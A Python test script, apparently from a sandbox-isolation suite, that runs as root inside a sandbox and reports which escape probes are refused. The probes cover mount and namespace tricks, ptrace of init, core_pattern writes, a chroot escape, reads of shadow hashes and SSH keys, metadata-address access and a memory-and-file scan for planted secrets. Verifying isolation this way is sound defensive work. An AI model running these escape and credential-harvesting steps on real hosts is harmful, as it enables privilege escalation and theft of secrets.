"""Runs inside a sandbox, as its root, and tries to find keys and to reach the host. Prints one line of JSON.

    attack_inside.py PARAMETERS.json

`probes` says for each attempt what came of it: "refused: …" or "SUCCEEDED: …". `found` says where the scan saw which
needle. The needles are given encoded, so that this script's own files and arguments do not hold them. The same script
runs as root outside, in namespaces of its own, to show that each probe can succeed. No probe harms the machine when it does:
devices are opened, not written; values are written back; calls that would act get arguments that cannot.
"""

import ctypes
import errno
import fcntl
import glob
import json
import os
import pathlib
import re
import signal
import socket
import stat
import struct
import subprocess
import sys

P = json.load(open(sys.argv[1]))
NEEDLES = {name: bytes(byte ^ 0x5A for byte in bytes.fromhex(value)) for name, value in P["needles"].items()}
INIT = P["init"]
libc = ctypes.CDLL(None, use_errno=True)
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS, errno.EROFS}
probes = {}
SPACES = dict(user=0x10000000, mnt=0x00020000, pid=0x20000000, net=0x40000000, ipc=0x08000000, uts=0x04000000, cgroup=0x02000000, time=0x80)


class Refused(Exception):
    pass


def probe(name):
    """Runs a probe at once. An OSError means refused; a result means that it succeeded."""
    def decorate(function):
        try:
            probes[name] = f"SUCCEEDED: {function()}"
        except (OSError, Refused, subprocess.SubprocessError) as error:
            probes[name] = f"refused: {error}"
        return function
    return decorate


def call(number, *args):
    """A system call that must not work; raises what it was refused with."""
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args])
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def gets_in(number, *args):
    """Succeeds when the kernel looks at the arguments at all, which are chosen to do nothing."""
    try:
        return call(number, *args)
    except OSError as error:
        if error.errno in REFUSED:
            raise
        return f"got as far as {errno.errorcode[error.errno]}"


def child(function):
    """Runs something in a child, so that what it changes is gone with it; its text is the result."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            if not P["sandbox"]:
                # What unmounts and moves outside does so in a copy of the mounts.
                call(SYS["unshare"], SPACES["mnt"])
            os.write(write, b"+" + str(function()).encode())
        except OSError as error:
            os.write(write, b"-" + str(error).encode())
        except BaseException as error:
            os.write(write, b"-" + repr(error).encode())
        os._exit(0)
    os.close(write)
    told = os.read(read, 4000).decode()
    os.close(read)
    _, status = os.waitpid(pid, 0)
    if not told.startswith("+"):
        raise Refused(told[1:] or f"died with status {status}")
    return told[1:]


def opens(path, flags):
    os.close(os.open(path, flags | os.O_CLOEXEC | os.O_NONBLOCK | os.O_NOCTTY))
    return path


def any_of(what, attempts):
    """Succeeds if one of the attempts does."""
    won, count = [], 0
    for attempt in attempts:
        count += 1
        try:
            won.append(str(attempt()))
            if not P["sandbox"]:
                break
        except (OSError, Refused):
            pass
    if won:
        return f"{len(won)} {what}, such as {won[0]}"
    raise Refused(f"none of {count}")


def numbers(folder="/proc"):
    return [int(name) for name in os.listdir(folder) if name.isdigit()]


# --- Mounts ----------------------------------------------------------------------------------------------------------

MS_RDONLY, MS_REMOUNT, MS_BIND, MNT_DETACH, OPEN_TREE_CLONE, AT_RECURSIVE = 1, 32, 4096, 2, 1, 0x8000
SYS = dict(mount=165, umount2=166, pivot_root=155, open_tree=428, move_mount=429, fsopen=430, fsconfig=431, fsmount=432, fspick=433, mount_setattr=442, clone=56, clone3=435,
           unshare=272, setns=308, ptrace=101, process_vm_readv=310, pidfd_open=434, pidfd_getfd=438, kcmp=312, keyctl=250, add_key=248, request_key=249, bpf=321,
           userfaultfd=323, io_uring_setup=425, perf_event_open=298, init_module=175, finit_module=313, delete_module=176, kexec_load=246, kexec_file_load=320, reboot=169,
           swapon=167, swapoff=168, iopl=172, ioperm=173, acct=163, quotactl=179, settimeofday=164, clock_settime=227, syslog=103, sethostname=170, setdomainname=171,
           name_to_handle_at=303, open_by_handle_at=304, fanotify_init=300, lookup_dcookie=212, nfsservctl=180, vhangup=153, mknodat=259, listmount=458, statmount=457)
os.makedirs("/tmp/attack/at", exist_ok=True)
AT = b"/tmp/attack/at"


def mount(source, kind, flags=0, target=AT, data=None):
    call(SYS["mount"], source, target, kind, flags, data or 0)
    call(SYS["umount2"], target, MNT_DETACH)
    return kind or "bind"


probe("mount tmpfs")(lambda: child(lambda: mount(b"none", b"tmpfs")))
probe("mount proc")(lambda: child(lambda: mount(b"none", b"proc")))
probe("mount cgroup")(lambda: child(lambda: any_of("kinds", [lambda k=k: mount(b"none", k) for k in (b"cgroup2", b"cgroup")])))
probe("mount sysfs")(lambda: child(lambda: mount(b"none", b"sysfs")))
probe("bind mount")(lambda: child(lambda: mount(b"/etc", None, MS_BIND)))
probe("overlay mount")(lambda: child(lambda: (os.makedirs("/tmp/attack/u", exist_ok=True), mount(b"none", b"overlay", data=b"lowerdir=/etc:/usr"))[1]))
probe("remount writable")(lambda: child(lambda: gets_in(SYS["mount"], 0, b"/", 0, MS_REMOUNT | MS_BIND, 0)))
probe("remount /proc paths")(lambda: child(lambda: any_of("paths", [lambda p=p: gets_in(SYS["mount"], 0, p, 0, MS_REMOUNT | MS_BIND, 0) for p in (b"/proc", b"/proc/sys", b"/sys")])))
probe("fsopen")(lambda: child(lambda: gets_in(SYS["fsopen"], b"tmpfs", 0)))
probe("open_tree")(lambda: child(lambda: gets_in(SYS["open_tree"], -100, b"/", OPEN_TREE_CLONE | AT_RECURSIVE)))
probe("fspick")(lambda: child(lambda: gets_in(SYS["fspick"], -100, b"/", 0)))
probe("move_mount")(lambda: child(lambda: gets_in(SYS["move_mount"], -100, b"/proc", -100, AT, 0)))
probe("mount_setattr")(lambda: child(lambda: gets_in(SYS["mount_setattr"], -100, b"/", 0, struct.pack("QQQQ", 0, MS_RDONLY, 0, 0), 32)))
probe("pivot_root")(lambda: child(lambda: gets_in(SYS["pivot_root"], AT, AT)))
probe("umount of proc's masks")(lambda: child(lambda: any_of("paths", [lambda p=p: call(SYS["umount2"], p.encode(), MNT_DETACH) for p in ("/proc/kcore", "/proc/sys", "/proc/keys", "/proc", "/sys")])))
if P["buckets"]:
    probe("umount of the bucket")(lambda: child(lambda: any_of("buckets", [lambda p=p: call(SYS["umount2"], p.encode(), MNT_DETACH) for p in P["buckets"]])))
    probe("umount of the bucket by its program")(lambda: subprocess.run(["umount", "-l", P["buckets"][0]], check=True, capture_output=True, timeout=20))

# --- Namespaces ------------------------------------------------------------------------------------------------------

for name, flag in SPACES.items():
    probe(f"unshare {name}")(lambda: child(lambda: call(SYS["unshare"], flag)))
    if name != "time":
        def by_clone():
            pid = call(SYS["clone"], flag | signal.SIGCHLD, 0, 0, 0, 0)
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
            return f"pid {pid}"
        probe(f"clone {name}")(by_clone)
    def by_clone3():
        pid = call(SYS["clone3"], struct.pack("QQQQQQQQ", flag, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return f"pid {pid}"
    probe(f"clone3 {name}")(by_clone3)
    probe(f"setns {name}")(lambda: child(lambda: gets_in(SYS["setns"], os.open(f"/proc/{INIT}/ns/{name}", os.O_RDONLY), flag)))



@probe("unshare by the calls of 32-bit programs")
def _():
    import mmap
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, edi; mov ebx, esi; int 0x80; pop rbx; ret
    code.write(bytes.fromhex("53 89f8 89f3 cd80 5b c3"))
    enter = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    def attempt():
        if (result := enter(310, SPACES["uts"])) < 0:
            raise OSError(-result, os.strerror(-result))
        return result
    return child(attempt)


# --- Other processes, the kernel -------------------------------------------------------------------------------------

@probe("ptrace of init")
def _():
    return child(lambda: any_of("ways", [lambda: call(SYS["ptrace"], 0x4206, INIT, 0, 0), lambda: call(SYS["ptrace"], 16, INIT, 0, 0)]))


@probe("memory of init")
def _():
    def vm():
        buffer = ctypes.create_string_buffer(16)
        address = int(open(f"/proc/{INIT}/maps").readline().split("-")[0], 16)
        local, remote = struct.pack("QQ", ctypes.addressof(buffer), 16), struct.pack("QQ", address, 16)
        return call(SYS["process_vm_readv"], INIT, local, 1, remote, 1, 0)
    return any_of("ways", [vm, lambda: opens(f"/proc/{INIT}/mem", os.O_RDONLY), lambda: opens(f"/proc/{INIT}/mem", os.O_WRONLY)])


probe("descriptors of init")(lambda: child(lambda: call(SYS["pidfd_getfd"], call(SYS["pidfd_open"], INIT, 0), 0, 0)))
probe("init's program is writable")(lambda: any_of("programs", [lambda p=p, f=f: opens(f"/proc/{p}/exe", f) for p in (INIT,) for f in (os.O_WRONLY, os.O_RDWR)]))
probe("keyctl")(lambda: any_of("calls", [lambda: gets_in(SYS["keyctl"], 0, -3, 0), lambda: gets_in(SYS["add_key"], b"user", b"attack", b"x", 1, -1), lambda: gets_in(SYS["request_key"], b"user", b"attack", 0, -1)]))
probe("bpf")(lambda: gets_in(SYS["bpf"], 0, struct.pack("IIIIIIIIIIIIIIII", 2, 4, 4, 1, *[0] * 12), 64))
probe("userfaultfd")(lambda: any_of("modes", [lambda: gets_in(SYS["userfaultfd"], 0), lambda: gets_in(SYS["userfaultfd"], 1)]))
probe("io_uring")(lambda: gets_in(SYS["io_uring_setup"], 1, ctypes.create_string_buffer(120)))
for name, args in dict(perf_event_open=(0, 0, -1, -1, 0), init_module=(0, 0, b""), finit_module=(-1, b"", 0), delete_module=(b"no such module", 0o4000), kexec_load=(0, 0, 0, 0),
                       kexec_file_load=(-1, -1, 0, 0, 0), reboot=(0, 0, 0, 0), swapon=(b"/nothing", 0), swapoff=(b"/nothing",), iopl=(0,), ioperm=(0, 1, 0),
                       acct=(b"/nothing/x",), quotactl=(0, 0, 0, 0), settimeofday=(0, 0), clock_settime=(0, 0), fanotify_init=(0, 0), sethostname=(0, 0), setdomainname=(0, 0), listmount=(0, 0, 0, 0)).items():
    probe(name)(lambda: child(lambda: gets_in(SYS[name], *args)))
probe("kernel log")(lambda: any_of("ways", [lambda: call(SYS["syslog"], 3, ctypes.create_string_buffer(8192), 8192), lambda: opens("/proc/kmsg", os.O_RDONLY), lambda: opens("/dev/kmsg", os.O_RDONLY)]))


@probe("open by handle")
def _():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    try:
        call(SYS["name_to_handle_at"], -100, b"/etc/hostname", handle, ctypes.byref(mount_id), 0)
    except OSError as error:
        # Some file systems have no handles; a made-up one must be refused before it is looked at.
        handle.raw = struct.pack("IiIIII", 16, 1, 2, 0, 0, 0) + bytes(112)
        if error.errno not in REFUSED and error.errno != errno.EOPNOTSUPP:
            raise
    return gets_in(SYS["open_by_handle_at"], os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


for name, path, flags in [("core_pattern", "/proc/sys/kernel/core_pattern", os.O_WRONLY), ("modprobe", "/proc/sys/kernel/modprobe", os.O_WRONLY), ("sysrq-trigger", "/proc/sysrq-trigger", os.O_WRONLY),
                          ("kcore", "/proc/kcore", os.O_RDONLY), ("uevent_helper", "/sys/kernel/uevent_helper", os.O_WRONLY), ("/dev/mem", "/dev/mem", os.O_RDONLY),
                          ("/dev/fuse", "/dev/fuse", os.O_RDWR), ("loop devices", "/dev/loop-control", os.O_RDWR), ("/dev/kvm", "/dev/kvm", os.O_RDWR)]:
    probe(name)(lambda: opens(path, flags))
probe("disks")(lambda: any_of("disks", [lambda p=p: opens(p, os.O_RDONLY) for p in glob.glob("/dev/[svhx][dv][a-z]*") + glob.glob("/dev/loop[0-9]*") + glob.glob("/dev/nvme*")]))


@probe("fuse through others' descriptors")
def _():
    links = [link for pid in ("self", 1, *numbers()) for link in glob.glob(f"/proc/{pid}/fd/*")]
    def attempt(link):
        if "fuse" not in os.readlink(link) and (os.major(os.stat(link).st_rdev), os.minor(os.stat(link).st_rdev)) != (10, 229):
            raise Refused("something else")
        return link
    if not P["sandbox"]:
        fd = os.open("/dev/fuse", os.O_RDWR)
        links.append(f"/proc/self/fd/{fd}")
    return any_of("descriptors", [lambda link=link: attempt(link) for link in links])


@probe("writes below /proc/sys and /proc")
def _():
    attempts = []
    for top in ["/proc/sys", "/proc/irq", "/proc/bus", "/proc/fs"]:
        for folder, _, names in os.walk(top):
            attempts += [lambda p=os.path.join(folder, name): opens(p, os.O_WRONLY) for name in names]
    return any_of("files", attempts)


@probe("writes to control groups")
def _():
    attempts = []
    for top in ["/sys/fs/cgroup", "/sys/kernel", "/sys/fs", "/sys/module"]:
        for folder, folders, names in os.walk(top):
            attempts += [lambda p=os.path.join(folder, name): opens(p, os.O_WRONLY) for name in names if os.lstat(os.path.join(folder, name)).st_mode & 0o222]
            if folder.startswith("/sys/fs/cgroup"):
                def make(folder=folder):
                    os.mkdir(folder + "/attack")
                    os.rmdir(folder + "/attack")
                    return folder
                attempts.append(make)
            if len(attempts) > 3000:
                break
    return any_of("files", attempts)


@probe("mknod of devices")
def _():
    def node(kind, major, minor):
        path = "/tmp/attack/node"
        if os.path.exists(path):
            os.unlink(path)
        os.mknod(path, kind | 0o666, os.makedev(major, minor))
        return path
    return any_of("devices", [lambda a=a: node(*a) for a in [(stat.S_IFCHR, 10, 229), (stat.S_IFCHR, 1, 1), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFCHR, 5, 1)]])


@probe("mknod in the bucket, used")
def _():
    def use(folder):
        path = f"{folder}/attack-node"
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        try:
            return opens(path, os.O_RDWR)
        finally:
            os.unlink(path)
    return any_of("devices", [lambda f=f: use(f) for f in P["buckets"] or ["/tmp/attack"]])


# --- The host's files ------------------------------------------------------------------------------------------------

def reads(path):
    if pathlib.Path(path).read_text().strip() != P["canary"]:
        raise Refused("another file")
    return path


@probe("the host's file by its path")
def _():
    return reads(P["canary_path"])


@probe("the host's file through /proc")
def _():
    bases = [f"/proc/{pid}/{name}" for pid in ("self", "thread-self", *numbers()) for name in ("root", "cwd")]
    bases += [fd for pid in ("self", *numbers()) for fd in glob.glob(f"/proc/{pid}/fd/*")]
    return any_of("ways", [lambda b=b, up=up: reads(f"{b}{up}{P['canary_path']}") for b in bases for up in ("", "/../../../../../../../..")])


@probe("the host's file by chroot")
def _():
    def escape():
        os.makedirs("/tmp/attack/root", exist_ok=True)
        top = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/attack/root")
        os.fchdir(top)
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
        return reads(P["canary_path"])
    return child(escape)


@probe("the host's directories")
def _():
    return any_of("directories", [lambda p=p: f"{p}: {os.listdir(p)[:3] or (_ for _ in ()).throw(Refused('empty'))}" for p in P["hidden"]])


@probe("the host's password hashes")
def _():
    def hashes(path):
        found = [line for line in open(path) if re.search(r":[$][^:]+:", line)]
        if not found and P["sandbox"]:
            raise Refused("no hashes")
        return path
    return any_of("files", [lambda p=p: hashes(p) for p in ("/etc/shadow", "/etc/shadow-", "/etc/gshadow")])


probe("the host's keys")(lambda: any_of("files", [lambda p=p: opens(p, os.O_RDONLY) for p in glob.glob("/etc/ssh/*key") + glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*") + glob.glob("/etc/ssl/private/*")
                                                      + ["/etc/machine-id", "/root/.bashrc", "/root/.profile", "/root/.bash_history"]]))
probe("root inside is the host's root")(lambda: (_ for _ in ()).throw(Refused("another")) if re.split(r"\s+", open("/proc/self/uid_map").read().strip())[1] != "0" else "the same")


@probe("setuid gives rights")
def _():
    import shutil
    shutil.copy(os.path.realpath(sys.executable), "/tmp/attack/suid")
    os.chmod("/tmp/attack/suid", 0o6755)
    def run():
        os.setgroups([])
        os.setresgid(65534, 65534, 65534)
        os.setresuid(65534, 65534, 65534)
        told = subprocess.run(["/tmp/attack/suid", "-ISc", "import os; print(os.geteuid(), os.getegid())"], capture_output=True, text=True, timeout=30).stdout.split()
        if told[:1] != ["0"]:
            raise Refused(f"still {told}")
        return told
    os.chmod("/tmp/attack", 0o755)
    return child(run)


@probe("privileges left")
def _():
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    bounding = int(status["CapBnd"], 16)
    names = {2: "DAC_READ_SEARCH", 12: "NET_ADMIN", 13: "NET_RAW", 16: "SYS_MODULE", 17: "SYS_RAWIO", 19: "SYS_PTRACE", 20: "SYS_PACCT", 21: "SYS_ADMIN", 22: "SYS_BOOT",
             25: "SYS_TIME", 26: "SYS_TTY_CONFIG", 27: "MKNOD", 30: "AUDIT_CONTROL", 32: "MAC_OVERRIDE", 33: "MAC_ADMIN", 34: "SYSLOG", 35: "WAKE_ALARM", 37: "AUDIT_READ", 38: "PERFMON", 39: "BPF"}
    left = [name for bit, name in names.items() if bounding >> bit & 1]
    left += [] if status["NoNewPrivs"] == "1" else ["no no_new_privs"]
    left += [] if status["Seccomp"] == "2" else ["no filter"]
    if left:
        return left
    raise Refused("only the usual ones")


# --- Network, sockets, IPC -------------------------------------------------------------------------------------------

probe("raw sockets")(lambda: any_of("kinds", [lambda a=a: socket.socket(*a).close() for a in [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 0)]]))
probe("vsock")(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close())


def connects(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1.5)
        s.connect(address)
        if family != socket.AF_UNIX:
            # What intercepts connections may take one; only the other end itself can say this.
            s.sendall(b"GET /health HTTP/1.0\r\n\r\n")
            if (told := s.recv(4000)) and any(text.encode() in told for text in P["answers"]):
                return f"{address}: {told[:60]}"
            raise Refused(f"an answer of something else: {told[:60]}")
        return str(address)


probe("the host's loopback")(lambda: any_of("addresses", [lambda a=a, p=p: connects(socket.AF_INET6 if ":" in a else socket.AF_INET, (a, p)) for a in ["127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "localhost"] for p in P["ports"]]))
probe("the host's addresses")(lambda: any_of("addresses", [lambda a=a, p=p: connects(socket.AF_INET6 if ":" in a else socket.AF_INET, (a, p)) for a in P["addresses"] for p in P["ports"]]))
probe("the metadata address")(lambda: any_of("addresses", [lambda a=a: connects(socket.AF_INET6 if ":" in a[0] else socket.AF_INET, tuple(a)) for a in P["metadata"]]))


@probe("the host's abstract sockets")
def _():
    names = {line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7}
    names |= {"@" + P["abstract"]}
    return any_of("sockets", [lambda n=n: connects(socket.AF_UNIX, "\0" + n[1:]) for n in names if n.startswith("@")])


@probe("path sockets of others")
def _():
    found = [P["socket_path"]]
    # Outside, the sockets of others are left alone.
    for folder, folders, names in os.walk("/") if P["sandbox"] else []:
        if folder.split("/")[1] in ("proc", "sys", "usr"):
            folders[:] = []
            continue
        found += [os.path.join(folder, name) for name in names if stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode)]
    return any_of("sockets", [lambda p=p: connects(socket.AF_UNIX, p) for p in found])


@probe("shared memory of the host")
def _():
    libc.shmget.restype = ctypes.c_int
    ctypes.set_errno(0)
    if libc.shmget(P["shm_key"], 0, 0) == -1:
        raise OSError(ctypes.get_errno(), "shmget")
    return "there"


@probe("processes of the host")
def _():
    def reach(pid):
        os.kill(pid, 0)
        told = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
        if P["host_command"] not in told:
            raise Refused("another process")
        return pid
    return any_of("processes", [lambda p=p: reach(p) for p in {*P["host_pids"], *numbers()}])


@probe("typing into the host's terminal")
def _():
    return any_of("terminals", [lambda f=f: (os.ttyname(f), fcntl.ioctl(f, 0x5412, b"\0")) for f in (0, 1, 2)] + [lambda: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"\0"), lambda: opens("/dev/console", os.O_RDWR), lambda: opens("/dev/tty0", os.O_RDWR)])


@probe("bucket mounts that allow devices or setuid")
def _():
    found = []
    for line in open("/proc/self/mountinfo"):
        fields = line.split(" ")
        if (" - fuse" in line or not P["sandbox"]) and fields[4].replace("\\040", " ") in P["buckets"] and not {"nosuid", "nodev"} <= set(fields[5].split(",")):
            found.append(fields[4])
    if found or not P["buckets"]:
        return found
    raise Refused("none")


@probe("paths of the host in the tables of mounts")
def _():
    text = open("/proc/self/mountinfo").read() + open("/proc/1/mountinfo").read() + open("/proc/mounts").read()
    return any_of("paths", [lambda p=p: p if p in text else (_ for _ in ()).throw(Refused()) for p in P["hidden"] if p.count("/") > 1] + [lambda: (_ for _ in ()).throw(Refused())])


# Writes that must stay here; the outside looks.
for path in P["marks"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        pathlib.Path(path).write_text("written inside")
    except OSError:
        pass
for path in P["append"]:
    try:
        with open(path, "ab") as f:
            f.write(b"\n# attacked\n")
    except OSError:
        pass

# --- The scan for keys -----------------------------------------------------------------------------------------------

found, looked = [], dict(files=0, bytes=0, regions=0, processes=0)


def look(where, data):
    looked["bytes"] += len(data)
    for name, needle in NEEDLES.items():
        if needle in data:
            found.append([name, where])


def look_into(path, limit=64 << 20):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC | os.O_NOCTTY)
    except OSError:
        return
    try:
        looked["files"] += 1
        rest = b""
        while limit > 0:
            data = os.read(fd, 1 << 20)
            if not data:
                break
            look(path, rest + data)
            rest, limit = data[-256:], limit - len(data)
    except OSError:
        pass
    finally:
        os.close(fd)


def look_into_memory(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return
    looked["processes"] += 1
    with memory:
        for line in maps:
            first, last = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" not in line.split()[1] or last - first > 256 << 20 or line.endswith("[vvar]"):
                continue
            looked["regions"] += 1
            try:
                memory.seek(first)
                look(f"/proc/{pid}/mem {line.split()[-1]}", memory.read(last - first))
            except (OSError, ValueError, OverflowError):
                pass


def scan():
    me = os.getpid()
    for pid in numbers():
        for name in ["environ", "cmdline", "comm", "status", "stack", "auxv", "mountinfo", "io"]:
            if pid != me or name in ("environ", "cmdline", "mountinfo"):
                look_into(f"/proc/{pid}/{name}")
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                look(fd, os.readlink(fd).encode())
                if stat.S_ISREG(os.stat(fd).st_mode):
                    look_into(fd)
            except OSError:
                pass
        if pid != me:
            look_into_memory(pid)
    for folder, folders, names in os.walk("/"):
        if folder.split("/")[1] in ("proc", "usr"):
            folders[:] = []
            continue
        if folder.startswith("/sys/") and folder.count("/") > 4:
            folders[:] = []
        for name in [*names, "."]:
            path = os.path.join(folder, name)
            try:
                for attribute in os.listxattr(path, follow_symlinks=False):
                    look(f"{path} {attribute}", os.getxattr(path, attribute, follow_symlinks=False))
                kind = os.lstat(path).st_mode
            except OSError:
                continue
            look(f"name {path}", path.encode(errors="surrogateescape"))
            if stat.S_ISLNK(kind):
                look(f"link {path}", os.readlink(path).encode(errors="surrogateescape"))
            elif stat.S_ISREG(kind):
                look_into(path)
    for path in ["/proc/keys", "/proc/key-users", "/proc/net/unix", "/proc/net/tcp", "/proc/mounts", "/proc/cmdline"]:
        look_into(path)


if P["scan"]:
    scan()
print(json.dumps({"probes": probes, "found": found, "looked": looked}))
